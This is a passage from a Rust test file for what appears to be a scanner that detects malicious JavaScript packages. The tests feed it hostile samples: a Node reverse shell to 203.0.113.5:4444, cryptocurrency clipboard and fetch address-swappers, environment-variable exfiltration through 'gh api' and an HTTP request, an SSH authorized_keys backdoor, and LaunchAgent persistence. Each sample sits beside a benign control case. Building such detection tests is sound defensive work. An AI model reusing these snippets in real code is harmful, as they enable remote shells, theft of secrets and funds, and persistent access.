            "require('fs').unlinkSync(require('path').join(__dirname, 'tmp.txt'));"
        ));
    }

    #[test]
    fn reverse_shell_and_clipper() {
        let rs = "const net = require('net'), cp = require('child_process');\nconst sh = cp.spawn('/bin/sh', []);\nconst c = new net.Socket();\nc.connect(4444, '203.0.113.5', () => { c.pipe(sh.stdin); sh.stdout.pipe(c); });";
        assert!(run(rs, Scope::IMPORT).0.contains(&"JS-REVERSE-SHELL"));
        let server = "const net = require('net'), cp = require('child_process');\nconst c = net.connect(80, 'h');\nc.pipe(process.stdout);\ncp.execSync('git status');";
        assert!(!run(server, Scope::IMPORT).0.contains(&"JS-REVERSE-SHELL"));
        let clip = "const clipboardy = require('clipboardy');\nclipboardy.writeSync('bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh');";
        assert!(run(clip, Scope::IMPORT).0.contains(&"STEAL-CLIPPER"));
        let copy = "const clipboardy = require('clipboardy');\nclipboardy.writeSync(text);";
        assert!(!run(copy, Scope::IMPORT).0.contains(&"STEAL-CLIPPER"));
        // The clipboard read and tested against an address pattern, then replaced.
        let tested = |re: &str| {
            format!(
                "const c = require('clipboardy');\nsetInterval(() => {{ if ({re}.test(c.readSync())) c.writeSync(process.env.MINE); }}, 500);"
            )
        };
        let swapped = tested("/^0x[a-fA-F0-9]{40}$/");
        assert!(run(&swapped, Scope::IMPORT).0.contains(&"STEAL-CLIPPER"));
        let url = tested("/^https?:\\/\\//");
        assert!(!run(&url, Scope::IMPORT).0.contains(&"STEAL-CLIPPER"));
        // Addresses in fetched data swapped for a hard-coded one; a plain regex replace is not.
        let swap = "window.fetch = async (...a) => { const t = await (await f(...a)).text();\n  return t.replace(/\\b0x[a-fA-F0-9]{40}\\b/g, '0xFc4a4858bafef54D1b1d7697bfb5c52F4c166976'); };";
        assert!(run(swap, Scope::IMPORT).0.contains(&"STEAL-CLIPPER"));
        let tidy = "module.exports = s => s.replace(/\\s+/g, ' ');";
        assert!(!run(tidy, Scope::IMPORT).0.contains(&"STEAL-CLIPPER"));
    }

    #[test]
    fn collected_data_in_a_network_command_is_exfiltration() {
        let sent = "const cp = require('child_process');\nconst d = Buffer.from(JSON.stringify(process.env)).toString('base64');\ncp.execSync(`gh api repos/x/y/contents/r -X PUT -f content=${d}`);";
        assert!(
            run(sent, Scope::INSTALL)
                .0
                .contains(&"EXFIL-SEND-COLLECTED")
        );
        // The same data written to a local command, or a network command without it, is not.
        let local = "const cp = require('child_process');\nconst d = JSON.stringify(process.env);\ncp.execSync(`echo ${d} > env.txt`);";
        assert!(
            !run(local, Scope::INSTALL)
                .0
                .contains(&"EXFIL-SEND-COLLECTED")
        );
        let plain = "const cp = require('child_process');\ncp.execSync('curl -sO https://x.test/tool.tgz');";
        assert!(
            !run(plain, Scope::INSTALL)
                .0
                .contains(&"EXFIL-SEND-COLLECTED")
        );
    }

    #[test]
    fn collected_values_pushed_into_a_list_and_transformed_in_place_are_followed() {
        let src = r#"
const os = require("os"), request = require("request");
var json = [];
json.push(os.hostname());
json.push(os.userInfo());
json = JSON.stringify(json);
const hash = encrypt(json);
var buff = Buffer.from(JSON.stringify(hash)).toString("base64");
request(`https://x.example/?q=${buff}`, () => {});
"#;
        assert!(run(src, Scope::IMPORT).0.contains(&"EXFIL-SEND-COLLECTED"));
        // A list of fixed values sent is not collected data.
        let fixed = src
            .replace("os.hostname()", "'a'")
            .replace("os.userInfo()", "'b'");
        assert!(
            !run(&fixed, Scope::IMPORT)
                .0
                .contains(&"EXFIL-SEND-COLLECTED")
        );
    }

    #[test]
    fn constants_the_top_level_never_uses_weigh_as_function_code() {
        let stage_of = |src: &str| {
            run_sink(src, Scope::IMPORT)
                .0
                .findings
                .iter()
                .find(|f| f.rule == "PERSIST-SCHEDULED")
                .and_then(|f| f.stage)
        };
        let in_function = "const DIR = '~/Library/LaunchAgents/';\nexports.enable = (name) => require('fs').writeFileSync(DIR + name + '.plist', '');";
        assert_eq!(stage_of(in_function), Some(Stage::Runtime));
        let at_top = "const DIR = '~/Library/LaunchAgents/';\nrequire('fs').writeFileSync(DIR + 'x.plist', '');";
        assert_eq!(stage_of(at_top), Some(Stage::Import));
    }

    #[test]
    fn keys_appended_to_authorized_keys_are_a_backdoor() {
        let src = "const fs = require('fs'), os = require('os'), path = require('path');\nconst p = path.join(os.homedir(), '.ssh', 'authorized_keys');\nfs.appendFileSync(p, 'ssh-ed25519 AAAA x');";
        assert!(run(src, Scope::INSTALL).0.contains(&"PERSIST-SSH-KEY"));
        let read = src.replace("appendFileSync(p, 'ssh-ed25519 AAAA x')", "readFileSync(p)");
        assert!(!run(&read, Scope::INSTALL).0.contains(&"PERSIST-SSH-KEY"));
    }

    #[test]
    fn requests_to_a_package_registry_are_not_network_facts() {
        // esbuild's installer shape: a fetch helper following redirects, called with the
        // registry tarball URL of the package's own binary.
        let helper = r#"
const https = require("https"), fs = require("fs");
function fetch(url) {
  return new Promise((resolve, reject) => {
    https.get(url, (res) => {
      if (res.statusCode === 302) return fetch(res.headers.location).then(resolve, reject);
      res.on("end", () => resolve(1));
    });
  });
}
async function viaNpm(pkg, version) {
  const url = `https://registry.npmjs.org/${pkg}/-/${pkg}-${version}.tgz`;
  fs.writeFileSync("bin/tool", await fetch(url));
}
viaNpm("tool-linux-64", "1.0.0");
"#;
        let (_, facts) = run(helper, Scope::INSTALL);
        assert!(facts.network.is_empty(), "{:?}", facts.network);
        assert!(facts.download_to_file.is_empty());
        // The same helper pointed at a host of one's own is network use, and so is one
        // under another name, or one nobody here calls.
        let own = helper.replace("https://registry.npmjs.org", "http://203.0.113.7");
        assert!(!run(&own, Scope::INSTALL).1.network.is_empty());
        let renamed = "const https = require('https');
function get(u) { https.get(u, r => r.pipe(process.stdout)); }
get('https://registry.npmjs.org/a/-/a-1.tgz');
get(process.argv[2]);";
        assert!(!run(renamed, Scope::INSTALL).1.network.is_empty());
        let exported = "const https = require('https');
module.exports = function dl(u) { return https.get(u); };
exports.dl2 = function (u) { return https.get(u); };";
        assert_eq!(run(exported, Scope::INSTALL).1.network.len(), 2);
    }
}
